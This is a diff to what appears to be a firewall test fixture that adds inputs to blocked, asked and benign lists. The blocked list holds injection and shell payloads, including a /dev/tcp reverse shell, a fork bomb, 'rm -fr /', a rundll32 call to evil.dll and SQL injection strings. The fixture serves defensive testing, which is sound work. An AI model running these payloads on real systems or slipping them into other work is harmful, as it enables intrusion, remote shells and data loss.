@@ -283,6 +283,18 @@ WAF_FORMS_BLOCKED = [
     '<i style="width:exp/**/ression(confirm(5))">',
     '<!DOCTYPE y [ <!ATTLIST b onclick CDATA "prompt(6)"> ]>',
     '<span dataformatas="html" datasrc="#d"></span>',
+    "x; rundll32 evil.dll,Run",  # programs after a shell operator glued to the first token
+    "a|gzip -dc /tmp/x.gz",
+    "q$(openssl rand 4)",
+    "ls /???/c?t",  # glob paths
+    "/us[r]/bin/id",
+    "g(){ g | g & }; g",  # a fork bomb
+    "(bash)0>/dev/tcp/10.0.0.1/9",
+    "y; rm -fr / ",
+    "for /l %i in (1,1,9) do ping x",
+    "sleep(15)",
+    "bob@example.org' or json_valid(x)--",
+    "and '{\"k\":1}'::jsonb @> '{}'",
 ]
 WAF_FORMS_ASKED = [
     "D:\\apps\\server.conf",  # paths an operations tool may send: asked, not refused
@@ -290,6 +302,9 @@ WAF_FORMS_ASKED = [
     "/srv/app/logs/error.log",
     "case 1 when 1 then 2 end",
     "SELECT CHAR(0x41)",
+    "c{a,ll}t",  # brace expansion, an alias, a here-string: shell, but asked
+    "alias ll=ls",
+    "cat <<< secret",
     "The shell of system users stays /bin/sh for now.",  # a shell named in prose: asked, not refused
 ]
 WAF_FORMS_BENIGN = [
@@ -318,6 +333,12 @@ WAF_FORMS_BENIGN = [
     "Put the window[0] (left) pane first",
     "- alert the team (now)",
     "We sell the top [5] (best) items",
+    "gcc 5 is the default compiler",  # programs named in prose pass
+    "Pipe it: echo 'x' | grep y",
+    "Run `grep` on the logs",
+    "Config lives in /etc/app/*/conf.d",
+    "for each item in (the list) do check",
+    "Sleep (8 hours) matters",
 ]
 
 
